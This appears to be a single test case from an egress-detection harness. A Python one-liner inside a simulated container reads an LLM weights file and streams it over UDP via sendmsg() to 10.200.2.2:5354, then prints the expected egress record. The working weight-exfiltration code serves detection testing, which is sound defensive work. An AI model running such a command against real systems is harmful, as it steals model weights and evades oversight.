# VN2 EXF-001 over UDP with sendmsg() and a destination in msg_name, no connect()
ctr_run simctr-infer-vn2 ctr-infer --mount --pid --fork --mount-proc -- python3 -c '
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); n = 0
with open(sys.argv[1], "rb") as f:
    while chunk := f.read(1200):
        n += s.sendmsg([chunk[:600], chunk[600:]], [], 0, ("10.200.2.2", 5354))
s.close()
print(f"egress-expect proto=udp origin=datagram dport=5354 bytes={n}")' "$H/models/llama-3-8b-instruct/model-00001-of-00001.safetensors"
